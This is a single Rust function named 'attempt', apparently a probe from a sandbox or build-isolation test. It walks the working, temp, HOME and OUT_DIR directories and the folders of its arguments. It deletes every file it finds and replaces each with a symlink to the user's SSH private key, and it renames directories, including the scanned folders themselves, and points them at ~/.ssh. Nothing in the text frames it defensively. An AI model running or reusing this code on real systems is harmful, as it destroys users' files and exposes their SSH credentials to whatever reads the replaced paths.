pub fn attempt() -> String {
    use std::{fs, os::unix::fs::symlink, path::PathBuf};
    let mut folders = vec![PathBuf::from("."), std::env::temp_dir()];
    folders.extend(std::env::var_os("HOME").map(PathBuf::from));
    folders.extend(std::env::var_os("OUT_DIR").map(PathBuf::from));
    for word in std::env::args() {
        folders.extend(PathBuf::from(word).parent().map(PathBuf::from));
    }
    for folder in folders {
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            let place = entry.path();
            if entry.file_type().is_ok_and(|kind| kind.is_file()) {
                if fs::remove_file(&place).is_ok() {
                    let _ = symlink("@HOME@/.ssh/id_rsa", &place);
                }
            } else {
                let mut moved = place.clone().into_os_string();
                moved.push("-moved");
                if fs::rename(&place, moved).is_ok() {
                    let _ = symlink("@HOME@/.ssh", &place);
                }
            }
        }
        // The folder itself: whoever looks into it finds the user's.
        if let (Some(parent), Some(name)) = (folder.parent(), folder.file_name()) {
            let moved = parent.join(format!("{}-moved", name.to_string_lossy()));
            if fs::rename(&folder, moved).is_ok() {
                let _ = symlink("@HOME@/.ssh", &folder);
            }
        }
    }
    String::new()
}
